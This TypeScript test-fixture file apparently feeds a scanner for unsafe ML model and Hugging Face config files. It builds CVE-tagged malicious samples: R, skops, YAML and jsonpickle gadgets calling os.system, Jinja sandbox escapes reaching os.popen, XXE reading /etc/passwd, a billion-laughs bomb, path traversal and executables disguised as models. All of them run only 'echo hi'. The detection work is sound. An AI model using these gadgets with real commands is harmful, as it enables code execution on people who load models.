import { gzipSync } from 'fflate';
import { be32, bytes, u32, utf8, zeros } from '../bytes';
import { flatbuffer, scalar, table } from '../flatbuffers-builder';
import { PAYLOAD } from '../pickle-assembler';
import { tarEntry, tarOf } from '../tar-builder';
import { dataPkl, torch } from '../torch-builder';
import { zipOf } from '../zip-builder';
import type { FileCase } from './file-case';
import { fileCases } from './file-case';

const json = (value: unknown): Uint8Array => utf8(JSON.stringify(value));
const gzip = (data: Uint8Array): Uint8Array => gzipSync(data, { mtime: 0 });
/** The root of Jinja's objects from a text: `os.popen` is some steps away. */
const ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
const POPEN = "{{ cycler.__init__.__globals__.os.popen('echo hi').read() }}";

const tflite = (code: string): Uint8Array =>
  flatbuffer('TFL3', table(scalar(4, 3), [table(scalar(1, 32), code, scalar(4, 1), scalar(4, 32))], [], 'test', []));

/** Entities of which each stands for ten of the one before it. */
const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('');

const others = fileCases(
  'other formats of models',
  [
    'TFLite, an operator of TensorFlow that writes',
    'save.tflite',
    tflite('FlexSaveV2'),
    'TensorFlow Lite, Flex operators'
  ],
  [
    'R, a promise',
    'model.rds',
    bytes(
      'X\n',
      be32(3),
      be32(0x040300),
      be32(0x030500),
      be32(5),
      'UTF-8',
      be32(5),
      be32(254),
      be32(6),
      be32(1),
      be32(0x40009),
      be32(6),
      'system',
      be32(2),
      be32(16),
      be32(1),
      be32(0x40009),
      be32(7),
      'echo hi',
      be32(254)
    ),
    'CVE-2024-27322'
  ],
  [
    'R, the same compressed',
    'model.rda',
    gzip(
      bytes(
        'RDX3\nX\n',
        be32(3),
        be32(0x040300),
        be32(0x030500),
        be32(5),
        'UTF-8',
        be32(1026),
        be32(1),
        be32(0x40009),
        be32(1),
        'x',
        be32(5),
        be32(254),
        be32(6),
        be32(1),
        be32(0x40009),
        be32(6),
        'system',
        be32(2),
        be32(16),
        be32(1),
        be32(0x40009),
        be32(7),
        'echo hi',
        be32(254),
        be32(254)
      )
    ),
    'CVE-2024-27322'
  ],
  [
    'PMML that reads a file',
    'model.pmml',
    utf8(
      '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header copyright="&x;"/></PMML>'
    ),
    'CWE-611'
  ],
  [
    'PMML, a billion laughs',
    'bomb.pmml',
    utf8(
      `<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY e0 "aaaaaaaaaa">${LAUGHS}]><PMML version="4.4"><Header copyright="&e9;"/></PMML>`
    ),
    'CWE-776'
  ],
  [
    'skops, a function',
    'function.skops',
    zipOf([
      {
        name: 'schema.json',
        data: json({
          __class__: 'function',
          __module__: 'builtins',
          __loader__: 'FunctionNode',
          __id__: 1,
          content: { module_path: 'os', function: 'system' },
          protocol: 2,
          _skops_version: '0.11'
        })
      }
    ]),
    'CVE-2024-37065'
  ],
  [
    'skops, a method',
    'method.skops',
    zipOf([
      {
        name: 'schema.json',
        data: json({
          __class__: 'method',
          __module__: 'builtins',
          __loader__: 'MethodNode',
          __id__: 1,
          content: { func: 'system', obj: { __class__: 'module', __module__: 'os', __loader__: 'TypeNode' } },
          protocol: 2,
          _skops_version: '0.11'
        })
      }
    ]),
    'CVE-2025-54413'
  ],
  [
    'skops, an operator',
    'operator.skops',
    zipOf([
      {
        name: 'schema.json',
        data: json({
          __class__: 'call',
          __module__: 'subprocess',
          __loader__: 'OperatorFuncNode',
          __id__: 1,
          attrs: { __class__: 'tuple', __module__: 'builtins', __loader__: 'TupleNode', content: [] },
          protocol: 2,
          _skops_version: '0.11'
        })
      }
    ]),
    'CVE-2025-54412'
  ],
  [
    'NeMo, a target',
    'model.nemo',
    gzip(
      tarOf(
        tarEntry({
          name: './model_config.yaml',
          data: utf8('target: nemo.X\ntrainer:\n  _target_: os.system\n  command: echo hi\n')
        }),
        tarEntry({ name: './model_weights.ckpt', data: torch([dataPkl()]) })
      )
    ),
    'CVE-2025-23304'
  ],
  [
    'NeMo, the weights',
    'weights.nemo',
    tarOf(
      tarEntry({ name: './model_config.yaml', data: utf8('target: nemo.X\n') }),
      tarEntry({ name: './model_weights.ckpt', data: torch([dataPkl(PAYLOAD)]) })
    ),
    'CWE-502'
  ],
  [
    'YAML that calls a function',
    'config.yaml',
    utf8('x: !!python/object/apply:os.system ["echo hi"]\n'),
    'CVE-2017-18342'
  ],
  [
    'YAML with a handle of its own',
    'handle.yaml',
    utf8('%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ["echo hi"]\n'),
    'CVE-2020-14343'
  ],
  [
    'MLflow, a loader',
    'MLmodel',
    utf8('flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    data: .\n'),
    'MLflow model format'
  ],
  [
    'jsonpickle',
    'model.json',
    json({ 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['echo hi'] }] }),
    'CVE-2020-22083'
  ],
  [
    'stable-baselines3, an object in JSON',
    'policy.zip',
    zipOf([
      {
        name: 'data',
        data: json({
          policy_class: { ':type:': '<class>', ':serialized:': 'gAJjcG9zaXgKc3lzdGVtClgHAAAAZWNobyBoaYVSLg==' }
        })
      }
    ]),
    'stable-baselines3 save format'
  ],
  ['a program under the name of a model', 'model.safetensors', bytes('\x7fELF\x02\x01\x01', zeros(57)), 'CWE-434'],
  [
    'a Windows program under the name of a model',
    'model.bin',
    bytes('MZ', zeros(58), u32(64), 'PE\0\0', zeros(60)),
    'CWE-434'
  ],
  ['a script under the name of a model', 'model.pt', utf8('#!/bin/sh\necho hi\n'), 'CWE-434']
);

const huggingFace = fileCases(
  'Hugging Face folders',
  [
    'code of the repository',
    'config.json',
    json({ model_type: 'x', auto_map: { AutoModel: 'modeling_x.Model' } }),
    'trust_remote_code'
  ],
  [
    'code of another repository',
    'config.json',
    json({ model_type: 'x', auto_map: { AutoModel: 'evil/repo--modeling_x.Model' } }),
    'trust_remote_code'
  ],
  [
    'a kernel of another repository',
    'config.json',
    json({ model_type: 'llama', _attn_implementation_internal: 'evil/kernel' }),
    'CVE-2026-4372'
  ],
  [
    'a template that walks to Python’s classes',
    'tokenizer_config.json',
    json({ tokenizer_class: 'X', chat_template: ESCAPE }),
    'CVE-2024-34359'
  ],
  [
    'one of several templates',
    'tokenizer_config.json',
    json({
      tokenizer_class: 'X',
      chat_template: [
        { name: 'default', template: '{{ x }}' },
        { name: 'rag', template: POPEN }
      ]
    }),
    'CVE-2026-5760'
  ],
  ['a template in a file', 'chat_template.jinja', utf8(`{% for m in messages %}${POPEN}{% endfor %}`), 'CVE-2026-5760'],
  [
    'a template that hides the name',
    'chat_template.jinja',
    utf8("{% set a = '__cla' ~ 'ss__' %}{{ ''|attr(a) }}"),
    'Jinja2 sandbox escapes'
  ],
  [
    'a module of sentence-transformers',
    'modules.json',
    json([{ idx: 0, name: '0', path: '', type: 'evil.Module' }]),
    'sentence-transformers'
  ],
  [
    'a pipeline of its own',
    'model_index.json',
    json({ _class_name: ['evil', 'Pipeline'], _diffusers_version: '0.30' }),
    'diffusers custom pipelines'
  ],
  [
    'shards outside the folder',
    'model.safetensors.index.json',
    json({ metadata: {}, weight_map: { w: '../../../etc/passwd' } }),
    'CWE-22'
  ],
  ['code that runs on import', 'modeling_x.py', utf8('import os\nos.system("echo hi")\n'), 'trust_remote_code']
);

/** Tricks of configurations, of folders from the Hub, and of formats that are seldom met. */
export const CONFIG_FILES: readonly FileCase[] = [...others, ...huggingFace];
